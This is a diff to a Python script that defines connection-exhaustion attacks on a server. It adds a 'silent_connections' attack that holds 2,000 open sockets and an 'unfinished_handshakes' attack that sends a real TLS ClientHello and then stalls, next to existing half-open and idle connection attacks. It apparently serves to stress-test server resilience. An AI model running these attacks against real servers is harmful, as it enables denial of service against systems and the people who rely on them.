@@ -2,10 +2,13 @@
 
 from __future__ import annotations
 
+import contextlib
 import itertools
 import socket
+import ssl
 import sys
 import time
+from collections import deque
 from collections.abc import Callable, Iterator
 from typing import Final
 
@@ -20,7 +23,7 @@ _PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 _GREETING: Final = _PREFACE + SettingsFrame(0).serialize() + SettingsFrame(0, flags=["ACK"]).serialize()
 _CONNECTIONS: Final = 2_000
 _AT_ONCE: Final = 100
-_HELLO: Final = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
+_HALF_A_HELLO: Final = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
 """The beginning of a TLS handshake."""
 
 Attack = Callable[[str], Iterator[None]]
@@ -81,6 +84,23 @@ def _idle(address: str) -> Iterator[None]:
         time.sleep(0.1)
 
 
+def _silent(address: str) -> Iterator[None]:
+    held: deque[socket.socket] = deque(maxlen=_CONNECTIONS)
+    while True:
+        held.append(_connect(address))
+        if len(held) == _CONNECTIONS:
+            yield
+
+
+def _hello() -> bytes:
+    """Return all that a client says first of a TLS handshake."""
+    said = ssl.MemoryBIO()
+    handshake = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), said, server_hostname="localhost")
+    with contextlib.suppress(ssl.SSLWantReadError):
+        handshake.do_handshake()
+    return said.read()
+
+
 def _calls(number: int, message: bytes, *, whole: bool = True, window: int = 0) -> bytes:
     settings = SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: window}) if window else SettingsFrame(0)
     parts = [_PREFACE, settings.serialize(), SettingsFrame(0, flags=["ACK"]).serialize()]
@@ -119,7 +139,12 @@ ATTACKS: Final[dict[str, Attack]] = {
     "half_open_connections": _holding(b"P", b"R"),
     "idle_connections": _idle,
 }  # fmt: skip
-ON_TLS: Final[dict[str, Attack]] = {"half_open_handshakes": _holding(_HELLO, b"\0", 1_000)}
+ON_TLS: Final[dict[str, Attack]] = {
+    "silent_connections": _silent,
+    "half_open_handshakes": _holding(_HALF_A_HELLO, b"\0", 1_000),
+    # A handshake that is answered, and not ended; then the beginning of another record.
+    "unfinished_handshakes": _holding(_hello(), b"\x16", 1_000),
+}
 
 
 def main() -> None:
